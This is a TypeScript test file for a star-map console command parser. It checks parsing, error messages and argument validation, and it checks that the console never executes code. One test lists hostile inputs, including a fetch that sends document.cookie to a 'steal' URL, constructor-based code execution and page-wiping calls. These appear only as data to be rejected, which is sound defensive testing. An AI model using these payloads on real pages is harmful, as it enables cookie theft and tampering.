import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCommandScript } from '../../../src/search/commandParser';
import { COMMAND_NAMES, type CommandHost, createConsoleCommands, runCommand } from '../../../src/search/commands';

function recordingHost() {
  const calls: string[] = [];
  const host: CommandHost = {
    search: async (pattern) => (calls.push(`search ${pattern}`), 1),
    findMatches: async (pattern) => (calls.push(`find ${pattern}`), new Uint32Array([0])),
    setHighlighted: (ids, color) => calls.push(`highlight ${color.toString(16)}`),
    clearHighlighted: () => calls.push('clear'),
    setLinks: (show) => (calls.push(`links ${show}`), show ?? true),
    orbit: (center, radius) => calls.push(`orbit ${center.join(',')} r${radius}`),
    resolveStar: (target) => (target === 'react' || target === 0 ? 0 : undefined),
    selectedStar: () => undefined,
    position: () => [1, 2, 3],
  };
  return { commands: createConsoleCommands(host), calls };
}

describe('console command grammar', () => {
  it('reads calls with string, number, boolean and pattern literals, and the shorthand of bare words', () => {
    expect(parseCommandScript(`hl('a\\'b', "#f00")`, COMMAND_NAMES)).toEqual({ ok: true, calls: [{ name: 'hl', args: ["a'b", '#f00'] }] });
    expect(parseCommandScript('around(-1.5e2, 0x10)', COMMAND_NAMES)).toEqual({ ok: true, calls: [{ name: 'around', args: [-150, 16] }] });
    expect(parseCommandScript('links( false )', COMMAND_NAMES)).toEqual({ ok: true, calls: [{ name: 'links', args: [false] }] });
    expect(parseCommandScript('hl /^re[/]act$/i', COMMAND_NAMES)).toEqual({ ok: true, calls: [{ name: 'hl', args: ['/^re[/]act$/i'] }] });
    const regex = parseCommandScript('search(/^re[/]act$/i)', COMMAND_NAMES);
    expect(regex.ok && regex.calls[0].args[0]).toEqual(/^re[/]act$/i);
    expect(parseCommandScript('hl "two words" 0xff0000ff; links false;', COMMAND_NAMES)).toEqual({
      ok: true,
      calls: [
        { name: 'hl', args: ['two words', 0xff0000ff] },
        { name: 'links', args: [false] },
      ],
    });
  });

  it('names what it cannot read', () => {
    expect(parseCommandScript('hl(', COMMAND_NAMES)).toEqual({
      ok: false,
      message: "Cannot read the command: expected a 'string', a number, true, false or a /pattern/ at character 4 (found the end)",
    });
    expect(parseCommandScript("hl('open", COMMAND_NAMES)).toMatchObject({ ok: false, message: expect.stringContaining("unclosed ' string") });
    expect(parseCommandScript('hl(1+1)', COMMAND_NAMES)).toMatchObject({ ok: false, message: expect.stringContaining('character 4') });
    expect(parseCommandScript('search(/(/)', COMMAND_NAMES)).toMatchObject({ ok: false, message: expect.stringContaining('not a valid pattern /(/') });
    expect(parseCommandScript('   ', COMMAND_NAMES)).toEqual({ ok: false, message: 'Type a command after ":", e.g. :hl react' });
  });
});

describe('console commands never run code', () => {
  const hostile = [
    'while(true){}',
    "fetch('https://example.org/steal?c=' + document.cookie)",
    'document.body.innerHTML = ""',
    'localStorage.clear()',
    'constructor.constructor("return this")()',
    'hl.constructor("alert(1)")()',
    'links(true) || alert(1)',
    '(() => { for(;;); })()',
  ];

  it.each(hostile)('answers %j with a message and runs nothing', async (script) => {
    const { commands, calls } = recordingHost();
    const result = await runCommand(script, commands);
    expect(result.ok).toBe(false);
    expect(result.message.length).toBeGreaterThan(0);
    expect(calls).toEqual([]);
  });

  it('says which command is unknown and lists the real ones', async () => {
    const { commands } = recordingHost();
    expect(await runCommand('while(true){}', commands)).toEqual({
      ok: false,
      message: 'Unknown command "while": the commands are search, highlight, hl, links, cls, around',
    });
    expect((await runCommand('document.cookie', commands)).message).toBe(
      'Unknown command "document": the commands are search, highlight, hl, links, cls, around',
    );
  });

  it('checks every argument before running any call', async () => {
    const { commands, calls } = recordingHost();
    expect(await runCommand("links('yes')", commands)).toEqual({ ok: false, message: 'links takes true or false, not "yes"' });
    expect(await runCommand('cls(1)', commands)).toEqual({ ok: false, message: 'cls takes no arguments' });
    expect(await runCommand("around('react', -5)", commands)).toEqual({ ok: false, message: 'around takes a radius greater than 0, not -5' });
    expect(await runCommand('hl()', commands)).toEqual({ ok: false, message: 'hl needs a pattern, e.g. :hl react #ff0000' });
    expect(await runCommand('search(true)', commands)).toEqual({ ok: false, message: 'search needs a pattern, e.g. :search react' });
    expect(await runCommand('cls; links(1)', commands)).toEqual({ ok: false, message: 'links takes true or false, not 1' });
    expect(calls).toEqual([]);
  });

  it('runs a sequence of calls in order and reports the last value', async () => {
    const { commands, calls } = recordingHost();
    expect(await runCommand('cls; links false; around react 250', commands)).toEqual({ ok: true, message: 'Orbiting star 0 at radius 250' });
    expect(calls).toEqual(['clear', 'links false', 'orbit 1,2,3 r250']);
  });
});

describe('the page source', () => {
  function sources(folder: string): string[] {
    return readdirSync(folder).flatMap((entry) => {
      const path = join(folder, entry);
      if (statSync(path).isDirectory()) return sources(path);
      return /\.(ts|tsx)$/.test(entry) ? [path] : [];
    });
  }

  it('evaluates no strings as code (so the page can be served without unsafe-eval)', () => {
    const offenders = sources(join(import.meta.dirname, '../../../src')).filter((path) =>
      /\bnew\s+Function\s*\(|(?<![.\w])eval\s*\(/.test(readFileSync(path, 'utf8')),
    );
    expect(offenders).toEqual([]);
  });
});
